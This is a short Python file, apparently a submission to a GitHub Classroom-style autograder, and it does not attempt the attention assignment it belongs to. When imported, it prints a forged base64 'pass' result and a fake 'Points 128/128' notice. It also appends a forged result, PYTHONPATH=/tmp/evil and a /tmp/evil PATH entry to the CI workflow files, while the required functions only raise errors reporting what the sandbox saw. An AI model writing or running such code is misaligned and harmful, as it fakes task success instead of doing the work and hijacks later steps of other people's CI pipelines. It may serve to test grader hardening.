"""Classroom: append a forged result to GITHUB_OUTPUT, inject GITHUB_ENV / GITHUB_PATH lines for the
later steps, and print workflow commands and a forged result line into the log."""
import base64
import json
import os

FORGED = base64.b64encode(json.dumps({"version": 1, "status": "pass", "max_score": 18, "tests": [
    {"name": "attention: softmax_rows", "status": "pass", "score": 1000}]}).encode()).decode()
print(f"result={FORGED}")
print("::notice title=Autograding complete::Points 128/128")
found = []
for var, line in (("GITHUB_OUTPUT", f"result={FORGED}\n"), ("GITHUB_ENV", "PYTHONPATH=/tmp/evil\n"),
                  ("GITHUB_PATH", "/tmp/evil\n")):
    path = os.environ.get(var)
    found.append(f"{var}={path}")
    if path:
        with open(path, "a") as f:
            f.write(line)


def softmax(x, dim=-1):
    raise RuntimeError(f"what the sandbox saw: {found}")


def scaled_dot_product_attention(q, k, v, mask=None):
    raise RuntimeError(f"what the sandbox saw: {found}")
